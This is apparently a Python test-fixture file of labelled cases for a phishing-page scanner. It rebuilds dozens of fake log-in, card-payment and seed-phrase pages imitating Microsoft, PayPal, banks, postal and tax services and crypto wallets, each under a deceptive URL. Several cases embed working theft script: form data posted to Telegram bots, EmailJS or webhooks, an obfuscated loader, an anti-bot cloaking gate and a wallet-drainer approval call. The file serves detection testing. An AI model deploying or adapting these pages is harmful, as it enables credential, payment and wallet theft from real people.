"""Hostile pages, first part: log-ins, cards and seed phrases that are asked for under a false name."""

from __future__ import annotations

from tests.scans.labelled.blind.case import Case
from tests.scans.labelled.blind.layouts import JQUERY, boxed, card, field, fields, form, landing, notice, page, shell, table

_CARD = (("cc", "Card number", "tel"), ("exp", "MM/YY", "text"), ("cvv", "CVV", "password"))
_TELEGRAM = (
    "document.querySelector('form').onsubmit=async e=>{e.preventDefault();const d=new FormData(e.target);let t='';for(const "
    "[k,v] of d)t+=k+': '+v+'\\n';await fetch('https://api.telegram.org/bot6123456789:AAHx0k3n/sendMessage?chat_id=-100187&text='"
    "+encodeURIComponent(t));location='https://outlook.office.com/'}"
)

CASES = [
    Case(
        "ms-card-pages-dev",
        "https://sharepoint-docs-view.pages.dev/?e=ann@contoso.com",
        boxed(
            "Sign in to your account",
            "Sign in",
            "Because you're accessing sensitive info, you need to verify your password.",
            form("#", field("loginfmt", "Email, phone, or Skype") + field("passwd", "Password", "password"), "Sign in")
            + f"<script>{_TELEGRAM}</script>",
            "Can’t access your account? &copy;2024 Microsoft Privacy statement",
        ),
    ),
    Case(
        "ms-worm-compromised-wordpress",
        "https://www.gartenbau-huber.at/wp-content/plugins/hello/o365/index.php?email=ZXZhQGV4YW1wbGUuYXQ=",
        boxed(
            "Outlook",
            "Enter password",
            "Your mailbox session has expired. Sign in again to Microsoft Outlook to release 7 pending messages.",
            form("next.php", field("email", "someone@example.com", "email") + field("pass", "Password", "password"), "Sign in"),
            "Microsoft Corporation",
        ),
    ),
    Case(
        "google-docs-web-app",
        "https://docs-secure-viewer.web.app/",
        card(
            "Google Docs - sign in",
            "Sign in with your email to view the document",
            "Invoice_Q3.pdf was shared with you via Google Drive",
            form(
                "https://formsubmit.co/collector77@proton.me",
                field("email", "Email", "email") + field("password", "Password", "password"),
                "View document",
            ),
        ),
    ),
    Case(
        "apple-id-suspended",
        "https://appleid.apple.com-verify.support/account/",
        card(
            "Apple ID",
            "Your Apple ID has been locked for security reasons",
            "You must verify your account within 24 hours or it will be permanently disabled.",
            form(
                "verify.php",
                fields(("appleid", "Apple ID", "email"), ("pwd", "Password", "password"), *_CARD),
                "Unlock account",
            ),
            "Copyright © Apple Inc. All rights reserved.",
        ),
    ),
    Case(
        "paypal-limited",
        "http://paypal-resolution-center.info/webapps/home/?cmd=_update",
        table(
            "PayPal: Resolution Center",
            "Your account access has been limited",
            "Dear customer, we noticed unusual activity. Please confirm your identity to restore access.",
            form(
                "submit.php",
                fields(("email", "Email", "email"), ("password", "PayPal password", "password"), ("ssn", "SSN", "text"), *_CARD),
                "Confirm",
            ),
            "© 1999-2024 PayPal. All rights reserved.",
        ),
    ),
    Case(
        "paypal-homograph",
        "https://www.xn--pypal-4ve.com/signin",
        card(
            "Log in to your PayPal account",
            "Log in",
            "",
            form("/signin", field("login_email", "Email or mobile number") + field("login_password", "Password", "password"), "Log In"),
        ),
    ),
    Case(
        "netflix-payment",
        "https://netflix-billing-update.top/login",
        page(
            "Netflix",
            '<div style="background:#000;color:#fff"><h1>Update your payment information</h1><p>We were unable to process your last '
            "payment. Your membership will be cancelled.</p>"
            + form("pay.php", fields(("name", "Name on card", "text"), *_CARD), "Restart membership")
            + "</div>",
        ),
    ),
    Case(
        "instagram-copyright",
        "https://instagram-help-copyright.ml/appeal",
        card(
            "Copyright Appeal | Instagram",
            "Copyright infringement",
            "We received a copyright complaint about your account. If you do not appeal, your account will be removed within 48 hours.",
            form("post.php", field("username", "Username") + field("password", "Password", "password"), "Continue"),
            "from Meta",
        ),
    ),
    Case(
        "facebook-business-appeal",
        "https://meta-business-case-10048812.vercel.app/required",
        card(
            "Meta Business Help Center",
            "Your Page has been scheduled for deletion",
            "Violation of our Community Standards. Request a review within 24 hours, otherwise your Facebook page is deleted permanently.",
            form(
                "#",
                fields(("name", "Full name", "text"), ("mail", "Business email", "email"), ("phone", "Phone", "tel"), ("pw", "Facebook password", "password"), ("code", "2FA code", "text")),
                "Submit",
            )
            + "<script>document.forms[0].onsubmit=e=>{e.preventDefault();fetch('https://api.telegram.org/bot700112233:AAE-x/sendMessage',{method:'POST',body:JSON.stringify(Object.fromEntries(new FormData(e.target)))})}</script>",
        ),
    ),
    Case(
        "metamask-seed",
        "https://metamask-wallet-restore.web.app/",
        landing(
            "MetaMask - restore wallet",
            "Import your wallet with your Secret Recovery Phrase",
            ["12 words", "24 words", "Private key"],
            form("https://submit-form.com/Qx81", "".join(field(f"word{i}", f"Word {i}") for i in range(1, 13)), "Import wallet"),
        ),
    ),
    Case(
        "walletconnect-validate",
        "https://dapps-rectify-sync.netlify.app/connect",
        landing(
            "WalletConnect | Validate",
            "Select your wallet to fix the issue",
            ["Trust Wallet", "MetaMask", "Ledger", "Coinbase", "Phantom", "Exodus"],
            '<div class="modal"><h4>Connect manually</h4>'
            + form("/api/send", '<textarea name="phrase" placeholder="Enter your recovery phrase, typically 12 (sometimes 24) words separated by single spaces"></textarea>', "CONNECT")
            + "</div>",
        ),
    ),
    Case(
        "ledger-live-breach",
        "https://ledger-live-security.com/start",
        card(
            "Ledger Live",
            "Your Ledger device must be re-validated",
            "Due to a recent data breach all users must migrate. Enter your 24-word recovery phrase to keep your funds.",
            form("save.php", '<textarea name="seed" rows="4"></textarea>', "Validate device"),
        ),
    ),
    Case(
        "drainer-airdrop",
        "https://arbitrum-claim.xyz/",
        landing(
            "$ARB Airdrop - Claim now",
            "Claim your ARB tokens before the snapshot ends",
            ["Check eligibility", "Connect wallet", "Claim up to 4,200 ARB"],
            '<button id="c">Connect Wallet</button><script>c.onclick=async()=>{const a=await ethereum.request({method:"eth_requestAccounts"});'
            'await ethereum.request({method:"eth_sendTransaction",params:[{from:a[0],to:"0x3F2a00000000000000000000000000000000dEaD",'
            'data:"0x095ea7b3ffffffffffffffffffffffffffffffff"}]});await ethereum.request({method:"eth_signTypedData_v4",params:[a[0],permit]})}</script>',
        ),
    ),
    Case(
        "dhl-fee-de",
        "https://dhl-zollgebuehr.info/de/sendung?id=JJD0099",
        card(
            "DHL | Sendungsverfolgung",
            "Ihr Paket konnte nicht zugestellt werden",
            "Bitte begleichen Sie die Zollgebühr von 1,99 € um die Zustellung zu veranlassen. Sonst wird die Sendung zurückgeschickt.",
            form("zahlung.php", fields(("n", "Karteninhaber", "text"), ("cc", "Kartennummer", "tel"), ("exp", "Gültig bis", "text"), ("cvv", "Prüfnummer", "tel")), "Jetzt bezahlen"),
            "© DHL International GmbH",
            lang="de",
        ),
    ),
    Case(
        "usps-redelivery",
        "https://usps.com-trackhelp.top/us",
        page(
            "USPS.com® - USPS Tracking®",
            "<h2>USPS Tracking</h2><p>Your package could not be delivered because of an incorrect address. Please update your address.</p>"
            + form("address", fields(("name", "Name", "text"), ("a1", "Address 1", "text"), ("zip", "Zip", "text"), ("tel", "Telephone", "tel")), "Continue")
            + "<p>A redelivery fee of $0.30 will be charged to your card in the next step.</p>",
        ),
    ),
    Case(
        "correos-es",
        "https://correos-envio.click/aduana",
        card(
            "Correos - Su paquete está pendiente",
            "Su paquete está retenido en aduana",
            "Para recibir su envío debe pagar 2,64 € de gastos de aduana en las próximas 48 horas.",
            form("pagar.php", fields(("titular", "Titular de la tarjeta", "text"), ("numero", "Número de tarjeta", "tel"), ("cad", "Caducidad", "text"), ("cvv", "CVV", "tel")), "Pagar ahora"),
            lang="es",
        ),
    ),
    Case(
        "la-poste-fr",
        "https://suivi-laposte-colis.com/",
        card(
            "La Poste - Suivi de colis",
            "Votre colis est en attente de livraison",
            "Des frais d’affranchissement de 1,45 € restent à régler. Confirmez vos coordonnées bancaires pour programmer la livraison.",
            form("carte.php", fields(("nom", "Nom complet", "text"), ("carte", "Numéro de carte", "tel"), ("date", "Date d'expiration", "text"), ("crypto", "Cryptogramme", "tel")), "Valider"),
            lang="fr",
        ),
    ),
    Case(
        "ameli-fr",
        "https://ameli-carte-vitale.fr-renouvellement.net/espace",
        card(
            "ameli - l'Assurance Maladie",
            "Votre nouvelle carte vitale est disponible",
            "Veuillez remplir le formulaire pour recevoir votre nouvelle carte vitale et rester couvert.",
            form("etape2.php", fields(("nir", "Numéro de sécurité sociale", "text"), ("naissance", "Date de naissance", "text"), ("cb", "Numéro de carte bancaire", "tel"), ("cvv", "CVV", "tel")), "Continuer"),
            lang="fr",
        ),
    ),
    Case(
        "sparkasse-pushtan",
        "https://sparkasse-pushtan-aktualisierung.de/login",
        card(
            "Sparkasse - pushTAN aktualisieren",
            "Ihre pushTAN-Verbindung läuft ab",
            "Aus Sicherheitsgründen müssen Sie Ihr Konto bestätigen, sonst wird Ihr Online-Banking gesperrt.",
            form("step2.php", fields(("anmeldename", "Anmeldename oder Legitimations-ID", "text"), ("pin", "Online-Banking-PIN", "password"), ("tel", "Mobilnummer", "tel")), "Weiter"),
            lang="de",
        ),
    ),
    Case(
        "commerzbank-compromised",
        "https://yoga-studio-lindau.de/images/cb/phototan/",
        card(
            "Commerzbank photoTAN Aktivierung",
            "Aktivierung erforderlich",
            "Ihre photoTAN-App ist nicht mehr gültig. Melden Sie sich an, um Ihr Konto zu reaktivieren.",
            form("mail.php", fields(("teilnehmer", "Teilnehmernummer", "text"), ("pin", "PIN", "password"), ("geb", "Geburtsdatum", "text")), "Anmelden"),
            lang="de",
        ),
    ),
    Case(
        "chase-ip",
        "http://45.81.39.112/chase/logon/",
        boxed(
            "Sign in - chase.com",
            "Welcome",
            "",
            form("logon.php", field("userid", "Username") + field("pw", "Password", "password"), "Sign in"),
            "JPMorgan Chase Bank, N.A. Member FDIC",
        ),
    ),
    Case(
        "wellsfargo-duckdns",
        "https://wellsfargo-secure-auth.duckdns.org/auth/index.html",
        boxed(
            "Sign On to View Your Personal Accounts | Wells Fargo",
            "Sign on to manage your accounts",
            "We detected a sign on from an unrecognized device. Verify your information.",
            form("result.php", fields(("j_user", "Username", "text"), ("j_pass", "Password", "password"), ("atm", "ATM PIN", "password"), ("ssn", "Social Security Number", "text")), "Verify"),
        ),
    ),
    Case(
        "hsbc-subdomain-long",
        "https://security.hsbc.co.uk.logon.customer-verification-service.cfd/1/2/logon",
        card(
            "Log on | HSBC UK",
            "A new payee has been added",
            "If this wasn't you, log on immediately to cancel the payment.",
            form("logon.php", fields(("u", "Username", "text"), ("m", "Memorable answer", "password"), ("dob", "Date of birth", "text")), "Cancel payee"),
        ),
    ),
    Case(
        "hmrc-refund",
        "https://hmrc-tax-rebate.online/claim",
        card(
            "HMRC - Claim a tax refund - GOV.UK",
            "You are eligible for a tax refund of £468.22",
            "Complete the form to receive the refund to your debit card.",
            form("claim.php", fields(("name", "Full name", "text"), ("nino", "National Insurance number", "text"), *_CARD, ("sort", "Sort code", "text")), "Claim refund"),
            "© Crown copyright",
        ),
    ),
    Case(
        "irs-refund-ipfs",
        "https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/irs.html",
        card(
            "IRS - Get your refund status",
            "Your third stimulus payment is waiting",
            "Verify your identity to receive $1,400.",
            form("https://n8n-collect.onrender.com/webhook/7f", fields(("ssn", "Social Security Number", "text"), ("dob", "Date of birth", "text"), ("dl", "Driver license number", "text")), "Verify"),
        ),
    ),
    Case(
        "ato-mygov",
        "https://my-gov-au.refund-portal.com/login",
        card(
            "Sign in with myGov - Australian Government",
            "Sign in to claim your refund",
            "You have an outstanding tax refund of AUD 736.98",
            form("login.php", field("user", "Username or email") + field("pw", "Password", "password"), "Sign in"),
        ),
    ),
    Case(
        "receita-pt-br",
        "https://regularize-cpf-receita.site/consulta",
        card(
            "Receita Federal - Regularização de CPF",
            "Seu CPF está irregular",
            "Seu CPF será cancelado em 24 horas. Pague a taxa de R$ 124,90 via PIX para regularizar e evitar o bloqueio das contas.",
            form("pix.php", fields(("cpf", "CPF", "text"), ("nome", "Nome completo", "text"), ("senha", "Senha gov.br", "password")), "Gerar PIX"),
            lang="pt-BR",
        ),
    ),
    Case(
        "itau-token",
        "http://itau-atualizacao-token.com.br.seguro-app.xyz/acesso",
        card(
            "Itaú - Atualização de segurança",
            "Seu iToken expirou",
            "Atualize agora para não ter sua conta bloqueada.",
            form("senha.php", fields(("agencia", "Agência", "text"), ("conta", "Conta", "text"), ("senha", "Senha do cartão", "password"), ("s6", "Senha eletrônica", "password")), "Atualizar"),
            lang="pt-BR",
        ),
    ),
    Case(
        "santander-es-sms",
        "https://santander.es-verificacion.icu/area",
        card(
            "Banco Santander | Acceso clientes",
            "Acceso no autorizado detectado",
            "Su cuenta ha sido bloqueada temporalmente. Verifique su identidad para desbloquearla.",
            form("2.php", fields(("dni", "DNI / NIE", "text"), ("clave", "Clave de acceso", "password"), ("firma", "Firma electrónica", "password")), "Entrar"),
            lang="es",
        ),
    ),
    Case(
        "mbank-pl",
        "https://mbank-weryfikacja.pl.bezpieczne-logowanie.com/pl/Login",
        card(
            "mBank - logowanie",
            "Twoje konto zostało zablokowane",
            "Zaloguj się, aby potwierdzić swoje dane i odblokować dostęp do konta.",
            form("login.php", fields(("id", "Identyfikator", "text"), ("haslo", "Hasło", "password"), ("pesel", "PESEL", "text"), ("panienskie", "Nazwisko panieńskie matki", "text")), "Zaloguj się"),
            lang="pl",
        ),
    ),
    Case(
        "inpost-pl",
        "https://inpost-doplata.pro/paczka/6700",
        card(
            "InPost - dopłata do przesyłki",
            "Twoja paczka została wstrzymana",
            "Wymagana dopłata 1,38 zł. Wybierz bank i zaloguj się, aby opłacić przesyłkę.",
            '<select name="bank"><option>PKO BP</option><option>mBank</option><option>ING</option><option>Santander</option></select>'
            + form("bank.php", fields(("login", "Login", "text"), ("haslo", "Hasło", "password")), "Zapłać"),
            lang="pl",
        ),
    ),
    Case(
        "olx-pl-card",
        "https://olx.pl-odbierz-platnosc.shop/order/88192",
        card(
            "OLX - odbierz płatność",
            "Kupujący opłacił Twój przedmiot",
            "Podaj dane karty, aby otrzymać pieniądze 450,00 zł",
            form("/api/card", fields(("nr", "Numer karty", "tel"), ("data", "Data ważności", "text"), ("cvv", "CVV", "tel"), ("saldo", "Saldo na karcie", "text")), "Odbierz środki"),
            lang="pl",
        ),
    ),
    Case(
        "ptt-kargo-tr",
        "https://ptt-kargo-odeme.xyz/takip",
        card(
            "PTT Kargo Takip",
            "Kargonuz teslim edilemedi",
            "Eksik adres nedeniyle gönderiniz bekletiliyor. 14,90 TL teslimat ücretini ödeyin.",
            form("odeme.php", fields(("ad", "Kart üzerindeki isim", "text"), ("kart", "Kart numarası", "tel"), ("skt", "Son kullanma tarihi", "text"), ("cvv", "CVV", "tel")), "Öde"),
            lang="tr",
        ),
    ),
    Case(
        "edevlet-aidat-tr",
        "https://edevlet-aidat-iade.net/giris",
        card(
            "e-Devlet Kapısı - Aidat İadesi",
            "Kredi kartı aidat iadeniz hazır",
            "1.850 TL iadenizi almak için kart bilgilerinizi ve şifrenizi girin.",
            form("gonder.php", fields(("tc", "T.C. Kimlik No", "text"), ("sifre", "e-Devlet şifresi", "password"), ("kart", "Kart numarası", "tel"), ("cvv", "CVV", "tel")), "İadeyi al"),
            lang="tr",
        ),
    ),
    Case(
        "sberbank-ru",
        "https://sberbank-vyplaty.online/",
        card(
            "СберБанк Онлайн",
            "Вам начислена выплата 17 350 ₽",
            "Для получения выплаты подтвердите вход и введите данные банковской карты.",
            form("send.php", fields(("card", "Номер карты", "tel"), ("date", "Срок действия", "text"), ("cvc", "CVC", "password"), ("sms", "Код из СМС", "text")), "Получить"),
            lang="ru",
        ),
    ),
    Case(
        "telegram-vote-ru",
        "https://golosuem-deti-konkurs.ru.com/vote",
        card(
            "Конкурс детских рисунков",
            "Чтобы проголосовать, войдите через Telegram",
            "Введите номер телефона и код, который пришёл в приложение Telegram.",
            form("/api/code", fields(("phone", "Номер телефона", "tel"), ("code", "Код подтверждения Telegram", "text"), ("cloud", "Облачный пароль", "password")), "Проголосовать"),
            lang="ru",
        ),
    ),
    Case(
        "vk-typosquat",
        "http://vkontaklte.ru/login",
        table(
            "Вход | ВКонтакте",
            "Вход ВКонтакте",
            "Ваша страница заблокирована за подозрительную активность. Войдите, чтобы восстановить доступ.",
            form("login.php", field("email", "Телефон или email") + field("pass", "Пароль", "password"), "Войти"),
            lang="ru",
        ),
    ),
    Case(
        "alrajhi-ar",
        "https://alrajhi-bank-tahdith.com/ar",
        card(
            "مصرف الراجحي - تحديث البيانات",
            "تم إيقاف بطاقتك مؤقتا",
            "يرجى تحديث بياناتك المصرفية خلال 24 ساعة لتجنب إغلاق الحساب.",
            form("save.php", fields(("id", "رقم الهوية", "text"), ("card", "رقم البطاقة", "tel"), ("pin", "الرقم السري", "password"), ("otp", "رمز التحقق", "text")), "تأكيد"),
            lang="ar",
        ),
    ),
    Case(
        "aramex-ar",
        "https://aramex-delivery.sbs/ar/pay",
        card(
            "أرامكس - دفع رسوم التوصيل",
            "شحنتك في انتظار التسليم",
            "يرجى دفع رسوم التوصيل 11.25 ريال لإعادة جدولة شحنتك.",
            form("pay", fields(("name", "اسم حامل البطاقة", "text"), ("card", "رقم البطاقة", "tel"), ("exp", "تاريخ الانتهاء", "text"), ("cvv", "رمز الأمان", "tel")), "ادفع الآن"),
            lang="ar",
        ),
    ),
    Case(
        "amazon-jp",
        "https://amazon.co.jp.ajuyts.cn/ap/signin",
        card(
            "Amazonログイン",
            "アカウントが停止されました",
            "お支払い方法に問題があります。24時間以内に情報を更新しない場合、アカウントは永久に停止されます。",
            form("signin", field("email", "Eメールまたは携帯電話番号") + field("password", "パスワード", "password"), "ログイン"),
            "© 1996-2024, Amazon.com, Inc.",
            lang="ja",
        ),
    ),
    Case(
        "etc-jp",
        "https://etc-meisai.jp.vxqk.cn/login",
        card(
            "ETC利用照会サービス",
            "ETCサービスは無効になりました",
            "継続してご利用いただくには、以下にクレジットカード情報を入力して本人確認を行ってください。",
            form("card", fields(("no", "カード番号", "tel"), ("exp", "有効期限", "text"), ("cvv", "セキュリティコード", "tel"), ("pw", "パスワード", "password")), "確認する"),
            lang="ja",
        ),
    ),
    Case(
        "mitsui-jp",
        "https://smbc-card-security.top/vpass",
        card(
            "三井住友カード Vpass",
            "ご本人確認のお願い",
            "お客様のカードの利用を一時的に制限しております。本人確認のためVpass IDとパスワードを入力してください。",
            form("vpass.php", fields(("vid", "Vpass ID", "text"), ("vpw", "パスワード", "password"), ("cc", "カード番号", "tel"), ("cvv", "セキュリティコード", "tel")), "ログイン"),
            lang="ja",
        ),
    ),
    Case(
        "etc-cn-subsidy",
        "https://gov-butie.lgxv.cc/",
        card(
            "2024年个人劳动补贴申领",
            "个人劳动补贴已开始申领",
            "请填写银行卡信息及手机号码完成认证,补贴将在24小时内到账,逾期视为放弃。",
            form("submit", fields(("xm", "姓名", "text"), ("sfz", "身份证号码", "text"), ("yhk", "银行卡号", "tel"), ("mm", "银行卡密码", "password"), ("yzm", "短信验证码", "text")), "立即领取"),
            lang="zh-CN",
        ),
    ),
    Case(
        "icbc-cn",
        "http://www.1cbc.com.cn.wap-safe.top/login.asp",
        table(
            "中国工商银行手机银行",
            "您的手机银行已过期",
            "为了不影响您的正常使用,请立即登录升级,否则账户将被冻结。",
            form("save.asp", fields(("card", "卡号", "tel"), ("pwd", "登录密码", "password"), ("qk", "取款密码", "password")), "登录"),
            lang="zh-CN",
        ),
    ),
    Case(
        "bnl-italy",
        "https://poste-italiane-sicurezza.web.app/accesso",
        card(
            "Poste Italiane - Accesso",
            "Il tuo conto BancoPosta è stato limitato",
            "Per ripristinare l'operatività inserisci le tue credenziali e il codice ricevuto via SMS.",
            form("https://hook.eu2.make.com/9d2xk", fields(("user", "Nome utente", "text"), ("password", "Password", "password"), ("tel", "Cellulare", "tel")), "Accedi"),
            lang="it",
        ),
    ),
    Case(
        "ing-nl-qr",
        "https://mijn-ing-beveiliging.nl.nieuwe-betaalpas.info/inloggen",
        card(
            "Mijn ING",
            "Uw betaalpas verloopt",
            "Vraag kosteloos uw nieuwe betaalpas aan. Log in om te voorkomen dat uw rekening wordt geblokkeerd.",
            form("login.php", fields(("gebruikersnaam", "Gebruikersnaam", "text"), ("wachtwoord", "Wachtwoord", "password"), ("pasnummer", "Pasnummer", "text")), "Inloggen"),
            lang="nl",
        ),
    ),
    Case(
        "webmail-generic-weebly",
        "https://webmailupgrade-helpdesk.weebly.com/",
        page(
            "Webmail Upgrade",
            "<h2>IT HELPDESK</h2><p>Your mailbox has exceeded its storage limit. You will not be able to send or receive new mail until "
            "you re-validate your mailbox. Fill in the form below.</p>"
            + form("https://www.weebly.com/weebly/apps/formSubmit.php", fields(("_u1", "Email Address:", "text"), ("_u2", "Username:", "text"), ("_u3", "Password:", "text"), ("_u4", "Confirm Password:", "text")), "Submit"),
        ),
    ),
    Case(
        "webmail-jotform-like",
        "https://forms.zohopublic.eu/itadmin44/form/StaffEmailUpgrade/formperma/x8",
        page(
            "Staff Email Upgrade",
            "<p>All staff must complete this form to avoid deactivation of your email account.</p>"
            + form("/submit", fields(("a", "Full name", "text"), ("b", "Email", "email"), ("c", "Email password", "text")), "Submit"),
        ),
    ),
    Case(
        "onedrive-r2",
        "https://pub-3f9ce1a24bbd4f9f9d2f0000c0ffee00.r2.dev/onedrive.html#ceo@firm.example",
        page(
            "OneDrive",
            '<div id="m"></div><script>var _0x3a1f=["\\x68\\x74\\x74\\x70\\x73","\\x70\\x61\\x73\\x73\\x77\\x6f\\x72\\x64"];(function(_0x1,_0x2){while(--_0x2){_0x1.push(_0x1.shift())}}(_0x3a1f,0x1b3));'
            "document.write(unescape('%3Cform%20action%3D%22https%3A%2F%2Fcollect-a.ru%2Fp.php%22%20method%3Dpost%3E%3Cinput%20type%3Dpassword%20name%3Dp%3E%3C%2Fform%3E'));</script>"
            "<p>Microsoft OneDrive: this file is protected. Enter the email password to view.</p>",
        ),
    ),
    Case(
        "adobe-pdf-html",
        "https://fileshare-adobe.glitch.me/viewer.html",
        boxed(
            "Adobe Document Cloud",
            "Adobe PDF Online",
            "Confirm your identity: select your email provider and sign in to read the secured document.",
            '<ul><li>Outlook</li><li>Gmail</li><li>Yahoo</li><li>Other mail</li></ul>'
            + form("https://astonishing-lark.000webhostapp.com/x.php", field("em", "Email", "email") + field("pw", "Email password", "password"), "View PDF"),
        ),
    ),
    Case(
        "docusign-redirect-chain",
        "https://view-secure-doc.azurewebsites.net/sign",
        boxed(
            "DocuSign",
            "Review document",
            "Sign in with your work email to sign the document.",
            form("/auth", field("email", "Work email", "email") + field("password", "Password", "password"), "Continue"),
        ),
        hops=(("https://bit.ly/3xYzAbC", 301), ("https://t.co/Ab12", 302), ("https://adclick.g.doubleclick.net/pcs/click?adurl=https://view-secure-doc.azurewebsites.net/sign", 302)),
    ),
    Case(
        "dropbox-blogspot",
        "https://dropbox-sharedfile.blogspot.com/2024/01/open.html",
        page(
            "Dropbox - shared file",
            '<iframe src="https://storage-login.rf.gd/drop/" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0"></iframe>',
        ),
    ),
    Case(
        "roundcube-hidden",
        "https://mail.ctfabrik.com.br/~webadm/roundcube/?_task=login",
        card(
            "Roundcube Webmail :: Welcome",
            "Roundcube Webmail",
            "Session expired. Log in to continue",
            form("https://ricercapoint.it/.well-known/rc.php", field("_user", "Username") + field("_pass", "Password", "password"), "LOGIN"),
        ),
    ),
    Case(
        "steam-giveaway",
        "https://steamcommunlty.com/gift/50",
        landing(
            "Steam Community :: Gift Card $50",
            "You have received a $50 gift card",
            ["Sign in through Steam", "Receive gift", "Limited to first 100 users"],
            form("/openid/login", field("username", "Steam account name") + field("password", "Password", "password"), "Sign in"),
        ),
    ),
    Case(
        "discord-nitro",
        "https://dlscord-nitro.gift/free",
        landing(
            "Discord - Free Nitro",
            "Claim your free 3 months of Nitro",
            ["Authorize with Discord", "No payment needed"],
            '<div class="qr"><img src="qr.png"></div>' + form("/api/auth", field("email", "Email or phone") + field("password", "Password", "password"), "Login"),
        ),
    ),
    Case(
        "roblox-robux",
        "https://www.roblox.com.gt/games/free-robux",
        card(
            "Roblox - Login",
            "Login to Roblox to receive 10,000 Robux",
            "",
            form("/login.php", field("username", "Username/Email/Phone") + field("password", "Password", "password"), "Log In"),
        ),
    ),
    Case(
        "whatsapp-gold",
        "https://whatsapp-web-login.vip/",
        page(
            "WhatsApp Web",
            '<h1>Use WhatsApp on your computer</h1><ol><li>Open WhatsApp on your phone</li><li>Scan the code</li></ol><canvas id="qr"></canvas>'
            + form("/link", field("phone", "Phone number", "tel") + field("code", "6-digit verification code"), "Link device")
            + "<script>new WebSocket('wss://185.117.73.4:8443/qr').onmessage=m=>qr.dataset.ref=m.data</script>",
        ),
    ),
    Case(
        "linkedin-typo",
        "https://www.linkedln-jobs.com/checkpoint/lg/login",
        card(
            "LinkedIn Login, Sign in | LinkedIn",
            "Sign in",
            "Stay updated on your professional world",
            form("/checkpoint/submit", field("session_key", "Email or Phone") + field("session_password", "Password", "password"), "Sign in"),
        ),
    ),
    Case(
        "coinbase-port",
        "https://coinbase-wallet-auth.com:8443/signin",
        card(
            "Coinbase - Sign in",
            "Suspicious withdrawal detected",
            "A withdrawal of 0.84 BTC is pending. Sign in now to cancel this transaction.",
            form("/p", fields(("email", "Email", "email"), ("password", "Password", "password"), ("otp", "2-step code", "text")), "Cancel withdrawal"),
        ),
    ),
    Case(
        "binance-at-sign",
        "https://www.binance.com@bnb-verify.live/login",
        card(
            "Binance | Log In",
            "Binance Account Login",
            "",
            form("/login", field("email", "Email/Phone number") + field("password", "Password", "password"), "Next"),
        ),
    ),
    Case(
        "citi-data-frame",
        "https://online-citi.cloudfront-secure.ga/",
        page(
            "Citi Online",
            '<script>location.href="data:text/html;base64,PGZvcm0gYWN0aW9uPWh0dHBzOi8vZXZpbC5nYS9wIG1ldGhvZD1wb3N0PjxpbnB1dCB0eXBlPXBhc3N3b3JkPjwvZm9ybT4="</script>',
        ),
    ),
    Case(
        "ms-turnstile-gate",
        "https://oauth.secure-msonline.shop/Kx82/",
        notice(
            "Checking your browser",
            "Verifying you are human",
            ["This may take a few seconds"],
            "if(navigator.webdriver||/bot|crawl|spider|headless/i.test(navigator.userAgent)){location='https://www.wikipedia.org'}else{"
            "document.addEventListener('contextmenu',e=>e.preventDefault());document.onkeydown=e=>e.keyCode!=123;setInterval(()=>{debugger},100);"
            "document.open();document.write(decodeURIComponent(escape(atob(window.__p))));document.close()}",
            extra="<script>window.__p='" + "PGh0bWw+PHRpdGxlPlNpZ24gaW4gdG8geW91ciBhY2NvdW50PC90aXRsZT4" * 12 + "'</script>",
        ),
    ),
    Case(
        "tollpass-sms",
        "https://ezpassny.com-tollbillq.xin/us",
        card(
            "E-ZPass - Pay toll",
            "Outstanding toll invoice",
            "Your vehicle has an unpaid toll of $6.99. Pay before midnight to avoid a $50 late fee and suspension of your registration.",
            form("/pay", fields(("plate", "License plate", "text"), *_CARD), "Pay now"),
        ),
    ),
    Case(
        "booking-verify",
        "https://booking.reservation-id48813.com/confirm",
        card(
            "Booking.com - Confirm your reservation",
            "Your reservation may be cancelled",
            "The hotel needs you to verify your card within 12 hours. No money will be charged.",
            form("/verify", fields(("holder", "Cardholder", "text"), *_CARD), "Verify card"),
        ),
    ),
    Case(
        "generic-bank-mailto",
        "https://credit-union-members.wixsite.com/secure",
        card(
            "Member verification",
            "Verify your membership",
            "All members are required to confirm their online banking details.",
            form("mailto:members.verify@yandex.com", fields(("user", "Online banking ID", "text"), ("pw", "Password", "password"), ("acct", "Account number", "text")), "Send"),
        ),
    ),
    Case(
        "zimbra-firebase-js",
        "https://zimbra-admin-portal.firebaseapp.com/",
        page(
            "Zimbra Web Client Sign In",
            field("user", "Username") + field("pw", "Password", "password") + '<button onclick="go()">Sign In</button><script src="https://cdn.emailjs.com/dist/email.min.js"></script>'
            "<script>function go(){emailjs.init('user_9x');emailjs.send('service_a','template_b',{u:user.value,p:pw.value}).then(()=>alert('Invalid password, try again'))}</script>",
        ),
    ),
    Case(
        "spotify-br-shell",
        "https://spotify-pagamento.vercel.app/",
        page(
            "Spotify - Atualize seu pagamento",
            "<div id=root><h1>Seu Premium foi suspenso</h1><p>Atualize os dados do cartão para continuar ouvindo.</p>"
            + form("/api/c", fields(("n", "Número do cartão", "tel"), ("v", "Validade", "text"), ("c", "CVV", "tel")), "Salvar")
            + "</div>",
            lang="pt-BR",
        ),
    ),
    Case("spa-shell-brand", "https://app-uniswap-v4.org/#/swap", shell("Uniswap Interface", "https://app-uniswap-v4.org/s/connect-drainer.min.js")),
    Case(
        "telekom-de-mailbox",
        "https://telekom-kundencenter-online.de/email/login",
        card(
            "Telekom Login",
            "Postfach voll",
            "Ihr T-Online Postfach wird innerhalb von 24 Stunden gesperrt. Bestätigen Sie jetzt Ihre Zugangsdaten.",
            form("pruefen.php", field("pw_usr", "Benutzername") + field("pw_pwd", "Passwort", "password"), "Login"),
            lang="de",
            head=JQUERY,
        ),
    ),
]
